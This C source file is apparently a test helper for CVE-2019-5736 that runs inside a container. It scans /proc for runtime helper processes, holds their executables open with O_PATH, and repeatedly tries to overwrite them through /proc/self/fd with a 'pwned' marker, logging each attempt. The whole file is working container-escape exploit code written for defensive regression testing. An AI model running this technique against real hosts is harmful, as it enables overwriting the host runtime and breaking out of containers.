/* CVE-2019-5736 attacker, run inside a container by test_cve_2019_5736.py.
 *
 * Busy-scans /proc for processes running a binary other than its own and
 * busybox (a runtime's helper joining the container), grabs /proc/PID/exe
 * with O_PATH like the original exploit, and keeps trying to reopen each
 * grabbed file for writing through /proc/self/fd/N, which starts to work
 * once the helper has exec'd or exited if the runtime did not protect its
 * binary.  Every event goes to the log; it stops after `seconds`.
 *
 * usage: attack_exe SECONDS LOGFILE STOPFILE (stops early once STOPFILE exists) */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_GRABBED 64

static FILE *logf;
static int grabbed[MAX_GRABBED];
static char grabbed_name[MAX_GRABBED][256];
static int ngrabbed;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int known(const char *exe)
{
	for (int i = 0; i < ngrabbed; i++)
		if (strcmp(grabbed_name[i], exe) == 0)
			return 1;
	return 0;
}

static void scan(const char *self_exe)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	if (!d)
		return;
	while ((e = readdir(d)) && ngrabbed < MAX_GRABBED) {
		char path[300], exe[256];
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
		ssize_t n = readlink(path, exe, sizeof exe - 1);
		if (n <= 0) {
			/* non-dumpable processes (a careful runtime's helper) refuse even this */
			static char last_refused[32];
			if (errno != ENOENT && strcmp(last_refused, e->d_name) != 0) {
				fprintf(logf, "pid %s: readlink exe refused: %m\n", e->d_name);
				snprintf(last_refused, sizeof last_refused, "%s", e->d_name);
			}
			continue;
		}
		exe[n] = 0;
		if (strcmp(exe, self_exe) == 0 || strstr(exe, "busybox") || known(exe))
			continue;
		int fd = open(path, O_PATH);
		if (fd < 0) {
			fprintf(logf, "pid %s exe %s: open O_PATH refused: %m\n", e->d_name, exe);
			continue;
		}
		fprintf(logf, "grabbed pid %s exe %s\n", e->d_name, exe);
		grabbed[ngrabbed] = fd;
		snprintf(grabbed_name[ngrabbed], sizeof grabbed_name[0], "%s", exe);
		ngrabbed++;
	}
	closedir(d);
}

static void try_write(void)
{
	static int last_errno[MAX_GRABBED];
	for (int i = 0; i < ngrabbed; i++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/self/fd/%d", grabbed[i]);
		int fd = open(path, O_WRONLY | O_TRUNC);
		if (fd < 0)
			fd = open(path, O_WRONLY);
		if (fd >= 0) {
			ssize_t w = write(fd, "pwned\n", 6);
			fprintf(logf, "WROTE %zd bytes to %s\n", w, grabbed_name[i]);
			close(fd);
		} else if (errno != last_errno[i]) {
			fprintf(logf, "write to %s refused: %m\n", grabbed_name[i]);
			last_errno[i] = errno;
		}
	}
}

int main(int argc, char **argv)
{
	char self_exe[256];
	if (argc != 4)
		return 2;
	logf = fopen(argv[2], "a");
	if (!logf)
		return 2;
	setvbuf(logf, NULL, _IOLBF, 0);
	ssize_t n = readlink("/proc/self/exe", self_exe, sizeof self_exe - 1);
	self_exe[n > 0 ? n : 0] = 0;
	double end = now() + atof(argv[1]);
	fprintf(logf, "ready\n");
	while (now() < end && access(argv[3], F_OK) != 0) {
		scan(self_exe);
		try_write();
	}
	fprintf(logf, "done, grabbed %d\n", ngrabbed);
	return 0;
}
